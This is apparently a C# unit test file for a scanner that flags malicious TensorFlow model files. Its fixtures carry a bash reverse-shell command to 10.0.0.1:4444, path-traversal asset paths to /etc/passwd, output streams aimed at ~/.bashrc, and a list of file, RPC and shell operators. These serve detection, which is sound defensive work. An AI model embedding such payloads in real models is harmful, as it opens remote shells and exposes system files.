using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Core.Formats;
using SupplyChainAnalyzers.Scanner.Formats.TensorFlow;
using SupplyChainAnalyzers.Scanner.Input;
using SupplyChainAnalyzers.Scanner.Scanning;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Graphs;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Protobuf;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;
using static SupplyChainAnalyzers.Scanner.Tests.Formats.TensorFlow.TensorFlowBytes;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.TensorFlow;

public sealed class TensorFlowScannerTests
{
    [Fact]
    public void Model_with_the_usual_operators_and_saver_is_clean()
    {
        var nodes = Usual.Select(static operation => Node(operation, Attribute("dtype", new ProtoBuilder().Number(6, 1)))).ToArray();
        Is(Verdict.Clean, SavedModel(nodes));
        Is(Verdict.Clean, SavedModelWith(Graph().Message(2, Library(Function("__inference_f_1", nodes)))));
        Is(Verdict.Clean, Graph(nodes).Bytes, "frozen.pb", ModelFormats.TfGraphDef);
    }

    [Theory]
    [InlineData("PyFunc")]
    [InlineData("PyFuncStateless")]
    [InlineData("EagerPyFunc")]
    [InlineData("ReadFile")]
    [InlineData("WriteFile")]
    [InlineData("MatchingFiles")]
    [InlineData("DistributedSave")]
    [InlineData("DebugIdentityV3")]
    [InlineData("Rpc")]
    [InlineData("ShellCommand")]
    public void Operator_that_reaches_beyond_the_model_is_malicious(string operation)
    {
        var node = Node(operation);
        Is(Verdict.Malicious, SavedModel(Node("Const"), node));
        Is(Verdict.Malicious, Graph(Node("Const"), node).Bytes, "frozen.pb", ModelFormats.TfGraphDef);
        Is(Verdict.Malicious, SavedModelWith(Graph(Node("Const")).Message(2, Library(Function("f", node)))));
    }

    [Theory]
    [InlineData("TFRecordDatasetV2")]
    [InlineData("XlaCustomCallV2")]
    [InlineData("TRTEngineOp")]
    [InlineData("Frobnicate")]
    public void Operator_of_training_or_from_elsewhere_is_suspicious(string operation) => Is(Verdict.Suspicious, SavedModel(Node(operation)));

    [Fact]
    public void Operator_that_is_a_function_of_the_model_is_clean() =>
        Is(Verdict.Clean, SavedModelWith(Graph(Node("my_function")).Message(2, Library(Function("my_function", Node("Relu"))))));

    [Fact]
    public void Last_operator_of_a_node_counts() => Is(Verdict.Malicious, SavedModel(Node("Relu").Text(2, "PyFunc")));

    [Fact]
    public void Second_graph_adds_to_the_first() =>
        Is(Verdict.Malicious, SavedModelWith(Graph(Node("Relu")), new ProtoBuilder().Message(2, Graph(Node("PyFunc")))));

    [Theory]
    [InlineData("output_stream", "file:///home/u/.bashrc")]
    [InlineData("debug_urls", "grpc://10.0.0.1:6064")]
    public void Output_that_leaves_the_model_is_malicious(string key, string address) =>
        Is(Verdict.Malicious, SavedModel(Node("PrintV2", Attribute(key, new ProtoBuilder().Text(2, address)))));

    [Fact]
    public void Output_to_the_console_is_clean() => Is(Verdict.Clean, SavedModel(Node("PrintV2", Attribute("output_stream", new ProtoBuilder().Text(2, "stderr")))));

    [Theory]
    [InlineData("vocab.txt", Verdict.Clean)]
    [InlineData("../../etc/passwd", Verdict.Malicious)]
    [InlineData("/etc/passwd", Verdict.Malicious)]
    public void Asset_is_judged_by_its_path(string path, Verdict verdict) =>
        Is(verdict, SavedModelWith(Graph(Node("Const")), new ProtoBuilder().Message(6, new ProtoBuilder().Text(2, path))));

    [Fact]
    public void Command_in_a_constant_is_malicious()
    {
        var tensor = new ProtoBuilder().Number(1, 7).Text(8, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        Is(Verdict.Malicious, SavedModel(Node("Const", Attribute("value", new ProtoBuilder().Message(8, tensor)))));
    }

    [Fact]
    public void Constant_whose_shape_lies_is_malicious()
    {
        Is(Verdict.Clean, SavedModel(Node("Const", Attribute("value", new ProtoBuilder().Message(8, Tensor(16, 2, 2))))));
        Is(Verdict.Malicious, SavedModel(Node("Const", Attribute("value", new ProtoBuilder().Message(8, Tensor(16, 2, 3))))));
        Is(Verdict.Malicious, SavedModel(Node("Const", Attribute("value", new ProtoBuilder().Message(8, Tensor(16, 1L << 40, 1L << 40))))));
    }

    [Fact]
    public void CVE_2024_3660_lambda_in_keras_metadata_is_malicious()
    {
        ProtoBuilder Metadata(string json) => new ProtoBuilder().Message(1, new ProtoBuilder().Text(3, "root").Text(4, "_tf_keras_sequential").Text(5, json));

        const string Lambda = """{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "lambda", "function": "exploit"}}]}}""";
        Is(Verdict.Malicious, Metadata(Lambda).Bytes, "keras_metadata.pb");
        Is(Verdict.Malicious, SavedModelWith(Graph(Node("Const")), new ProtoBuilder().Message(7, new ProtoBuilder().Message(1, new ProtoBuilder().Message(4, new ProtoBuilder().Text(1, "_tf_keras_layer").Text(3, Lambda))))));
    }

    [Fact]
    public void Graph_of_a_lambda_layer_is_not_clean()
    {
        var model = SavedModelWith(Graph(Node("Const")).Message(2, Library(Function("__inference_lambda_1_layer_call_fn_7", Node("Relu")))));
        Assert.Equal(Verdict.Suspicious, Scanned.Bytes(model, "saved_model.pb").Verdict);
        Assert.Equal(Verdict.Malicious, Scanned.Bytes(model, "saved_model.pb", "keras_metadata.pb").Verdict);
    }

    [Fact]
    public void Fingerprint_is_clean() =>
        Is(Verdict.Clean, new ProtoBuilder().Number(1, -5).Number(2, 99).Number(3, 7).Number(4, 1).Message(6, new ProtoBuilder().Number(1, 1)).Text(7, "12345-uuid").Bytes, "fingerprint.pb");

    [Fact]
    public void File_of_two_kinds_is_not_clean()
    {
        // A graph for whoever reads it as a GraphDef, a SavedModel by the number at its end.
        byte[] both = [.. Graph([.. Enumerable.Range(0, 400).Select(static _ => Node("Const"))]).Bytes, .. Graph(Node("PyFunc")).Bytes, 0x08, 0x01];
        Assert.NotEqual(Verdict.Clean, Scanned.Bytes(both, "frozen.pb").Verdict);

        // ONNX for whoever skips the number in field 2, and alike a fingerprint.
        var onnx = new ProtoBuilder().Number(1, 8).Number(2, 1).Number(5, 1).Message(7, new ProtoBuilder().Message(1, new ProtoBuilder().Text(4, "PyOp").Text(7, "evil")));
        Assert.NotEqual(Verdict.Clean, Scanned.Bytes(onnx.Bytes, "fingerprint.pb").Verdict);
    }

    [Fact]
    public void Program_as_a_constant_is_malicious()
    {
        byte[] program = [0x7F, .. Samples.Text("ELF"), 2, 1, 1, .. new byte[9], 3, 0, 62, 0, 1, 0, 0, 0, .. new byte[104]];
        var tensor = new ProtoBuilder().Number(1, 4).Message(2, new ProtoBuilder().Message(2, new ProtoBuilder().Number(1, program.Length))).Data(4, program);
        Is(Verdict.Malicious, SavedModel(Node("Const", Attribute("value", new ProtoBuilder().Message(8, tensor)))));
    }

    [Fact]
    public void Smallest_models_are_found_by_their_structure()
    {
        Is(Verdict.Malicious, new ProtoBuilder().Message(2, new ProtoBuilder().Message(2, new ProtoBuilder().Message(1, new ProtoBuilder().Text(1, "a").Text(2, "PyFunc")))).Bytes);
        Is(Verdict.Malicious, new ProtoBuilder().Message(1, new ProtoBuilder().Text(1, "a").Text(2, "WriteFile")).Bytes, "g.pb", ModelFormats.TfGraphDef);
    }

    [Fact]
    public void Fields_of_a_model_come_in_any_order()
    {
        var meta = new ProtoBuilder().Message(7, new ProtoBuilder()).Message(2, Graph(Node("PyFunc"))).Message(1, new ProtoBuilder().Text(4, "serve"));
        Is(Verdict.Malicious, new ProtoBuilder().Number(1, 1).Message(2, meta).Bytes);
        Is(Verdict.Malicious, new ProtoBuilder().Message(2, meta).Number(1, 1).Bytes);
    }

    [Fact]
    public void Mutated_models_never_stop_the_scanner() =>
        Mutations.Run(
            [
                SavedModel([.. Usual.Select(static operation => Node(operation, Attribute("value", new ProtoBuilder().Message(8, Tensor(16, 2, 2)))))]),
                Graph(Node("Const"), Node("PyFunc")).Message(2, Library(Function("f", Node("Relu")))).Bytes,
            ],
            3000,
            static bytes => new TensorFlowScanner().Scan(new MemorySource(bytes), ScanContext.ForFile("m.pb", new FindingSink(), Neighbours.None)));

    private static void Is(Verdict verdict, byte[] model, string name = "saved_model.pb", ModelFormat? format = null)
    {
        var scanned = Scanned.Bytes(model, name);
        Assert.True(scanned.Verdict == verdict && scanned.Format == (format ?? ModelFormats.TfSavedModel), scanned.ToString());
    }
}
